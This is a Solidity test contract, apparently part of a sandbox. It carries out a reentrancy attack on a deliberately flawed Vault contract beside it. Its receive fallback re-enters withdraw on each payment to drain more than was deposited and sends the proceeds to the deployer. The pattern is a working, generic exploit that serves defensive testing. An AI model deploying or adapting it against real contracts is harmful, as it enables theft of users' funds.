// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.36;

import {Vault} from "./Vault.sol";

/// @title An attack on the sandbox's own vault
/// @notice FOR A LOCAL NODE ONLY. It exists to test the defence, and works against nothing but the
/// deliberately flawed `Vault` beside it.
/// @dev One `drain`: deposit a stake, withdraw it, and withdraw it again from within each payment.
contract ReentrancyAttack {
    Vault private immutable _vault;
    address private immutable _attacker = msg.sender;
    uint256 private _stake;
    uint256 private _rounds;

    constructor(Vault vault) {
        _vault = vault;
    }

    function drain(uint256 rounds) external payable {
        require(msg.sender == _attacker);
        (_stake, _rounds) = (msg.value, rounds);
        _vault.deposit{value: msg.value}();
        _vault.withdraw(msg.value);
        (bool paid,) = _attacker.call{value: address(this).balance}("");
        require(paid);
    }

    receive() external payable {
        if (_rounds > 1) {
            _rounds -= 1;
            _vault.withdraw(_stake);
        }
    }
}
